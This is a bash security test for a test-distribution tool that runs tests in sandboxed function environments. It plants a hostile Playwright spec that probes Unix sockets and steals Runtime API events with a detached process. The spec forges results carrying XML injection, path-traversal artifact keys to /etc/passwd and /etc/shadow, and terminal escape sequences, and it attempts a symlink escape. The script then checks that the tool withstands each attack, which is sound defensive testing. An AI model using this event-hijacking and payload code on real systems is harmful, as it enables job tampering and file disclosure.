#!/usr/bin/env bash
# A hostile test inside a sandboxed function environment (issue 14, items 2 and 6):
# (a) it looks for Unix sockets it can reach and asks each but its own Runtime API for an event;
# (b) it leaves a detached process that long-polls its own environment's Runtime API, steals the
#     next batch and answers it with a forged result: frameworkStatus "<injected-element/>",
#     artifact and blob-report keys that climb to /etc/passwd, an error message with terminal
#     escapes (OSC retitle, clear screen, \r);
# (c) it tries to replace storage/_hypertest/<functionName> with a symlink to a directory outside
#     storage, so that hypertest would write its state there.
# Afterwards: the JUnit file holds no injected element, no artifact names /etc/passwd or
# /etc/shadow, nothing landed outside storage, the terminal saw no raw OSC or clear-screen, and
# hypertest ended normally (exit 0 or 1) with its results written.
set -euo pipefail
here="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
# shellcheck source=hostile_lib.sh
source "$here/hostile_lib.sh"
require_sandbox
command -v script >/dev/null || fail "script (util-linux) is missing"

work="$(mktemp -d)"
trap 'hostile_cleanup "$work"' EXIT
proj="$work/project" outside="$work/outside" faults="$work/project/.hypertest/storage/ht-faults"
mkdir -p "$outside"
fault_project "$proj" >/dev/null
cd "$proj"
rm -rf tests && mkdir tests
export HYPERTEST_CACHE_DIR="$work/cache"

# Sorted first, so discovery order puts it in the first batch: later batches can be stolen.
cat >tests/a-hostile.spec.ts <<'TS'
import { test } from '@playwright/test';
import { execFileSync, spawn } from 'node:child_process';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as path from 'node:path';

// HT_FAULT_DIR (below the storage directory) is set in the function only, not at discovery.
const out = process.env.HT_FAULT_DIR || '';
const storage = path.dirname(out);

function sockets(): string[] {
  const found = new Set<string>();
  for (const line of fs.readFileSync('/proc/net/unix', 'utf8').split('\n').slice(1)) {
    const p = line.trim().split(/\s+/)[7];
    if (p && p.startsWith('/')) found.add(p);
  }
  const prune = ['/proc', '/sys', '/usr', '/work'].flatMap((p, i) => (i ? ['-o'] : []).concat(['-path', p]));
  for (const args of [['/', '-maxdepth', '6', '(', ...prune, ')', '-prune', '-o'], [storage]]) {
    let listed = '';
    try {
      listed = execFileSync('find', [...args, '-type', 's', '-print'],
                            { encoding: 'utf8', timeout: 20000, stdio: ['ignore', 'pipe', 'ignore'] });
    } catch (e: any) { listed = String(e.stdout || ''); }
    for (const p of listed.split('\n')) if (p) found.add(p);
  }
  return [...found];
}

function ask(socketPath: string): Promise<string> {
  return new Promise((resolve) => {
    const req = http.request({ socketPath, path: '/2018-06-01/runtime/invocation/next', agent: false, timeout: 2000 }, (res) => {
      res.resume();
      resolve(res.statusCode === 200 && res.headers['lambda-runtime-aws-request-id'] ? 'EVENT' : `answered ${res.statusCode}`);
    });
    req.on('timeout', () => { req.destroy(); resolve('no answer in 2 s'); });
    req.on('error', (e: any) => resolve(`error ${e.code}`));
    req.end();
  });
}

// Steals events from the Runtime API at argv[1] and answers them with a forged result.
const THIEF = `
const http = require('http'), fs = require('fs');
const [sock, out] = process.argv.slice(1);
const api = '/2018-06-01/runtime/invocation/';
function steal() {
  const req = http.request({ socketPath: sock, path: api + 'next', agent: false }, (res) => {
    let body = '';
    res.setEncoding('utf8').on('data', (c) => { body += c; }).on('end', () => {
      const id = res.headers['lambda-runtime-aws-request-id'];
      if (res.statusCode !== 200 || !id) process.exit(0);
      const event = JSON.parse(body);
      const forged = { version: 1, invocationId: event.invocationId, blobReport: '../../../etc/passwd',
        outcomes: event.tests.map((t) => ({ id: t.id, status: 'failed', frameworkStatus: '<injected-element/>',
          durationMs: 5, startMs: Date.now(), retry: 0, artifacts: ['../../../../etc/passwd', '/etc/shadow'],
          error: { message: '\\u001b]0;PWNED\\u0007\\u001b[2J\\rX' } })) };
      const post = http.request({ socketPath: sock, method: 'POST', path: api + id + '/response', agent: false,
                                  headers: { 'content-type': 'application/json' } }, (r) => {
        r.resume().on('end', () => {
          fs.writeFileSync(out + '/stolen-' + id, JSON.stringify({ status: r.statusCode, tests: event.tests.length }));
          steal();
        });
      });
      post.on('error', () => process.exit(0));
      post.end(JSON.stringify(forged));
    });
  });
  req.on('error', () => process.exit(0));
  req.end();
}
for (let i = 0; i < 3; i++) steal();  // the runner waits too; the host hands each event to one
`;

test('hostile probes', async () => {
  fs.mkdirSync(out, { recursive: true });
  const all = sockets();
  // Its own Runtime API: named by the environment, else the runtime.sock of its private /tmp.
  const own = process.env.HT_RUNTIME_API_SOCKET || all.find((p) => /\/runtime\.sock$/.test(p)) || '';
  const probed: Record<string, string> = {};
  for (const s of all) if (s !== own) probed[s] = await ask(s);
  // (b) the thief outlives this test, its worker and Playwright.
  if (own) {
    spawn(process.execPath, ['-e', THIEF, own, out], { detached: true, stdio: 'ignore' }).unref();
  }
  // (c) storage/_hypertest/<functionName> replaced by a symlink to a directory outside storage.
  const state = path.join(storage, '_hypertest', 'hostile');
  let symlink = 'planted';
  try {
    fs.renameSync(state, state + '.moved');
    fs.symlinkSync(process.env.HT_OUTSIDE!, state);
  } catch (e: any) { symlink = `refused (${e.code})`; }
  fs.writeFileSync(path.join(out, 'probe.json'), JSON.stringify({ own, probed, symlink, thief: !!own }));
});

test('fails with terminal escapes', () => {
  throw new Error('\u001b]0;PWNED\u0007\u001b[2J\rX');
});
TS
for f in 1 2 3; do
    cat >"tests/b-filler-$f.spec.ts" <<'TS'
import { test } from '@playwright/test';
for (let i = 1; i <= 20; i++) test(`filler ${i}`, async () => { await new Promise((r) => setTimeout(r, 150)); });
TS
done

# Concurrency 1: one environment runs every batch; the timing history below makes many small
# batches, the first one with the probe (discovery order), each running for a second or two.
node -e '
const [dir, outside] = process.argv.slice(1);
require("fs").writeFileSync(dir + "/hypertest.config.json", JSON.stringify({
  testRunner: {name: "playwright"}, concurrency: 1,
  cloudProvider: {name: "local", sandbox: true, functionName: "hostile", functionTimeout: 40,
                  env: {HT_FAULT_DIR: dir + "/.hypertest/storage/ht-faults", HT_OUTSIDE: outside}}}, null, 2));
' "$proj" "$outside"

run_ht deploy --quiet
expect_rc 0 "deploy"
# A history of 6 s per filler test (they take 0.15 s): batches of at most 28 s hold 4 of them,
# so the environment gets about 15 events after the probe's.
node -e '
const fs = require("fs"), dir = process.argv[1] + "/.hypertest/storage/_hypertest/hostile/";
const m = JSON.parse(fs.readFileSync(dir + "hypertest.manifest.json", "utf8"));
const tests = Object.fromEntries(m.tests.map(t => [t.id, /filler/.test(JSON.stringify(t)) ? 6000 : 1000]));
fs.writeFileSync(dir + "timings.json", JSON.stringify({version: 1, tests}));
' "$proj"

# The live view, as a user's terminal shows it.
# Who takes an event is a race (the host wakes every waiter): the thief wins one event in five or
# so. A run where it won none is run again, at most twice, so that the forgery is really tried.
for attempt in 1 2 3; do
    set +e
    script -qec "$(printf '%q ' "$HT" invoke)" /dev/null >"$work/terminal.log" 2>&1
    rc=$?
    set -e
    [[ -n "$(find "$faults" -name 'stolen-*' -print -quit 2>/dev/null)" ]] && break
    echo "attempt $attempt: the thief took no event"
done
out="$(tr -d '\000' <"$work/terminal.log")"
[[ "$rc" == 0 || "$rc" == 1 ]] || fail "hypertest ended with exit $rc (a crash?); output:
$out"
[[ -f hypertest.results.json && -f hypertest.junit.xml ]] || fail "no results or JUnit file; output:
$out"
[[ -f "$faults/probe.json" ]] || fail "the hostile test did not run; output:
$out"
echo "probe: $(cat "$faults/probe.json")"
invocations="$(json hypertest.results.json j.invocations)"
[[ "$invocations" -ge 2 ]] || fail "one invocation only: no later batch for the environment; output:
$out"
pass "hypertest ended normally (exit $rc) with results and JUnit written, $invocations invocations"

# (a) No socket but its own gave an event.
[[ "$(json "$faults/probe.json" 'Object.values(j.probed).filter(v => v === "EVENT").length')" == 0 ]] ||
    fail "another environment's Runtime API handed out an event: $(cat "$faults/probe.json")"
[[ "$(json "$faults/probe.json" 'j.thief')" == true ]] ||
    fail "the test saw no Runtime API socket of its own: nothing could steal an event"
pass "no reachable Unix socket other than its own Runtime API hands out events"

# (b) The forged answer, if it was taken.
stolen="$(find "$faults" -name 'stolen-*' | wc -l)"
[[ "$stolen" -gt 0 ]] || fail "the detached process stole no event in $invocations invocations: the forgery was not tried"
echo "the detached process stole $stolen event(s) and answered them with a forged result"
! grep -qF '<injected-element/>' hypertest.junit.xml ||
    fail "the forged frameworkStatus reached the JUnit file: $(grep -F '<injected-element/>' hypertest.junit.xml | head -3)"
if command -v xmllint >/dev/null; then
    xmllint --noout hypertest.junit.xml || fail "the JUnit file is not well-formed XML"
fi
bad="$(json hypertest.results.json 'j.testResults.flatMap(t => t.artifacts).filter(a => /etc\/(passwd|shadow)/.test(a)).join(" ")')"
[[ -z "$bad" ]] || fail "results list artifacts outside storage: $bad"
pass "JUnit holds no injected element; no artifact names /etc/passwd or /etc/shadow"

# The terminal: escapes from test errors (the real failing test's, and the forged ones) are gone.
grep -qF "PWNED" "$work/terminal.log" || grep -qF "fails with terminal escapes" "$work/terminal.log" ||
    fail "the failing test is not in the terminal output: $out"
expect_no_raw_escapes "$work/terminal.log" "terminal"
pass "no raw OSC or clear-screen sequence reached the terminal"

# (c) Nothing written outside storage through the planted symlink.
symlink="$(json "$faults/probe.json" j.symlink)"
echo "replacing storage/_hypertest/hostile with a symlink: $symlink"
[[ -z "$(ls -A "$outside")" ]] || fail "hypertest wrote outside storage through the planted symlink: $(ls -A "$outside")"
pass "nothing written into the directory outside storage"

expect_out "ignoring artifact key" "forged artifact keys are reported"
pass "the forged artifact keys were ignored with a warning"
